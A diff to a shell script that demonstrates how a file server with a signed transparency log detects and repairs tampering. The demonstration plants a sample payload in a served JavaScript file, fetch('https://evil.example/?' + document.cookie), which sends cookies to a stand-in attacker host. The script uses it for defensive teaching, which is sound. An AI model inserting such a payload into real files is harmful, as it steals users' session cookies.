@@ -11,7 +11,7 @@ dir=$(mktemp -d)
 server=
 trap 'test -z "$server" || kill "$server" 2>/dev/null || true; wait; rm -rf "$dir"' EXIT
 if [ -z "$tamper" ]; then
-	go build -o "$dir/tamper" ./docs/demonstration/tamper
+	go build -o "$dir/tamper" ./docs/demonstration
 	tamper=$dir/tamper
 fi
 cd "$dir"
@@ -51,11 +51,11 @@ start
 publish
 try curl -sS "$url"
 
-say "Somebody who uses it pins the log's key, which is in the server's key folder, and verifies the file."
+say "A user of it pins the log's key, which is in the server's key folder, and verifies the file."
 try cp keys/log.pub pinned.pub
 try "$larder" verify --key pinned.pub "$url"
 
-say "Somebody breaks into the server and changes the file, its hash, its checksums and its integrity."
+say "An attacker breaks into the server and changes the file, its hash, its checksums and its integrity."
 stop
 try "$tamper" data counter 1.0.0 counter.js 'fetch("https://evil.example/?" + document.cookie)'
 start
@@ -64,17 +64,17 @@ say "The server knows no better: it serves the file, and gives the tag for it."
 try curl -sS "$url"
 try "$larder" tag counter@1.0.0 counter.js
 
-say "Who verifies it is not taken in."
+say "A client that verifies the file notices."
 must_fail "$larder" verify --key pinned.pub "$url"
 
 say "The operator learns which rows were changed, and makes them again from the log."
-must_fail "$larder" log verify --deep
+must_fail "$larder" fsck --deep
 stop
-try "$larder" rebuild
+try "$larder" repair
 start
 try "$larder" verify --key pinned.pub "$url"
 
-say "Somebody else begins the log anew with another key, so that all fits together."
+say "The attacker begins the log anew with another key, so that all fits together."
 stop
 rm -r data keys
 echo 'let n = 0; function count() { return n += 2 }' >files/counter.js
